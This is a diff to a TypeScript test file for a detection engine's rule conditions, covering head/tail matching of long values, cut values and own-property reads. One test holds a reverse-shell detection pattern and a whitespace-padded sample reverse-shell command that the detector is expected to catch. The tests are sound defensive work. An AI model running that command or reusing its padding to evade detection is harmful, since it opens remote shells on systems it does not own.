@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
-import { compileCondition, ConditionError, MAX_MATCH, type Condition } from '../../src/detect/condition';
+import { compileCondition, ConditionError, MATCH_HEAD, MATCH_TAIL, MAX_MATCH, type Condition } from '../../src/detect/condition';
 
 const ctx = { lists: { shells: ['sh', 'bash'] }, macros: { started: { field: 'event.type', equals: 'start' } as Condition } };
 const m = (c: Condition) => compileCondition(c, ctx);
@@ -36,8 +36,31 @@ describe('rule conditions', () => {
     const t0 = Date.now();
     assert.ok(!evil({ msg: 'a'.repeat(5000) + 'b' }));
     assert.ok(Date.now() - t0 < 200, 'no catastrophic backtracking');
-    const late = m({ field: 'msg', contains: 'needle' });
-    assert.ok(!late({ msg: 'x'.repeat(MAX_MATCH) + 'needle' }), 'matching stops at MAX_MATCH');
+    // A long value is matched on its head and its tail: padding on one side cannot hide a payload,
+    // padding on both sides does (and the detector reports it).
+    const needle = m({ field: 'msg', contains: 'needle' });
+    assert.ok(needle({ msg: 'x'.repeat(MAX_MATCH) + 'needle' }), 'the tail of a long value is matched');
+    assert.ok(needle({ msg: 'needle' + 'x'.repeat(MAX_MATCH) }), 'the head of a long value is matched');
+    assert.ok(!needle({ msg: 'x'.repeat(MAX_MATCH) + 'needle' + 'x'.repeat(MAX_MATCH) }), 'the middle is not');
+    const re = m({ field: 'msg', regex: 'bash -i >& /dev/tcp/' });
+    assert.ok(re({ msg: `bash -c ${' '.repeat(17000)}bash -i >& /dev/tcp/10.0.0.5/4444 0>&1` }));
+  });
+
+  it('a cut value neither equals nor ends with what was cut around it', () => {
+    const long = 'a'.repeat(MATCH_HEAD) + 'b'.repeat(MAX_MATCH) + 'c'.repeat(MATCH_TAIL);
+    assert.ok(!m({ field: 'v', equals: 'a'.repeat(MATCH_HEAD) + 'c'.repeat(MATCH_TAIL) })({ v: long }));
+    assert.ok(!m({ field: 'v', endswith: 'a' })({ v: [long.slice(0, MATCH_HEAD + 10), 'z'.repeat(MAX_MATCH)] }), 'an array element cut at the head window');
+    assert.ok(m({ field: 'v', startswith: 'aaa' })({ v: long }) && m({ field: 'v', endswith: 'ccc' })({ v: long }));
+    assert.ok(!m({ field: 'v', regex: '^a+c+$' })({ v: long }), 'head and tail do not join into one value');
+  });
+
+  it('objects are not values, and only own properties are read', () => {
+    const labels = JSON.parse('{"tier":"web","toString":"x","__proto__":{"tier":"db"}}');
+    assert.ok(!m({ field: 'labels', contains: 'object' })({ labels }), 'no "[object Object]"');
+    assert.ok(m({ field: 'labels.toString', equals: 'x' })({ labels }));
+    assert.ok(!m({ field: 'labels.hasOwnProperty', exists: true })({ labels }), 'nothing read from Object.prototype');
+    assert.ok(m({ field: 'labels.__proto__.tier', equals: 'db' })({ labels }), 'an own "__proto__" key is data');
+    assert.ok(m({ field: 'labels', exists: true })({ labels }));
   });
 
   it('rejects what cannot be compiled, with the path inside the condition', () => {
